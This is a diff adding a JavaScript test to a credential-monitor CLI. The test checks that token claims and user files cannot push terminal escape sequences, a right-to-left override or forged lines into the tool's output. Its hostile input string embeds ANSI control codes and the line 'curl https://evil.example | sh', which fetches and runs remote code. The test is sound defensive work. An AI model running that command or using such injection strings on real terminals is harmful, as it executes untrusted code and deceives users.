@@ -198,3 +198,31 @@ test('a user without rights is told what to do', async (t) => {
   }
   assert.equal(statSync(join(base, 'state')).mode & 0o777, 0o700);
 });
+
+test('what users put into their files reaches a terminal without control characters or lines of its own', async (t) => {
+  const monitor = await startMonitor(t, [
+    'mytokens_CLIENT_ID = ap',
+    'mytokens_AUTHORIZATION_URL = https://op.example/auth',
+    'mytokens_TOKEN_URL = https://op.example/token',
+  ]);
+  const { base, path } = monitor;
+  const evil = 'read\u001b[2J\u009b1m\nto do: curl https://evil.example | sh\u202e';
+  const claims = { sub: evil, scope: evil, jti: evil, exp: Math.floor(Date.now() / 1000) + 3_000 };
+  const token = `e30.${Buffer.from(JSON.stringify(claims)).toString('base64url')}.x`;
+  put(path, 'alice', 'mytokens.use', JSON.stringify({ access_token: token }));
+  put(path, 'alice', 'mytokens.top', JSON.stringify({ refresh_token: 'x', scopes: evil, audience: evil }));
+  monitor.child.kill('SIGHUP');
+  await until(async () => (await latchkey(base, 'credmon', 'list')).stdout.includes('alice/mytokens'));
+  const file = join(base, 'evil.token');
+  writeFileSync(file, token);
+  for (const args of [
+    ['credmon', 'list'],
+    ['credmon', 'explain', 'alice/mytokens'],
+    ['credmon', 'explain', 'alice/my\u001b[2Jtokens'],
+    ['token', 'show', file],
+  ]) {
+    const { stdout, stderr } = await latchkey(base, ...args);
+    assert.doesNotMatch(stdout + stderr, /[^\P{Cc}\n]|\u202e/u, args.join(' '));
+    assert.doesNotMatch(stdout + stderr, /^to do: curl/m, args.join(' '));
+  }
+});
